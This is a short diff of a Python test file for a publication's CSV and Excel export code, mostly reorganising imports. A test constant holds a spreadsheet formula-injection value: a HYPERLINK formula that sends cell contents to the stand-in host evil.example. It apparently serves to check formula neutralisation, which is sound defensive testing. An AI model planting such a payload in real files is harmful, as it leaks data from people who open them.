@@ -16,10 +16,10 @@ from frictionless import validate as frictionless_validate
 from openpyxl import load_workbook
 
 from conftest import PUBLICATION, read_rows, write_rows
-from macros import exports
-from macros.exports import FORMULA_TRIGGERS, neutralise_formula, table_csv, workbook
-from macros.model import Publication
-from macros.validation import validate
+from macros.checking.validation import validate
+from macros.exchange import exports
+from macros.exchange.exports import FORMULA_TRIGGERS, neutralise_formula, table_csv, workbook
+from macros.model.publication import Publication
 
 HOSTILE_NAME = '-1+1+HYPERLINK("http://evil.example/?"&A1,"查看")'
 PROJECT_TABLE = "12-project-expenditure-budget.csv"
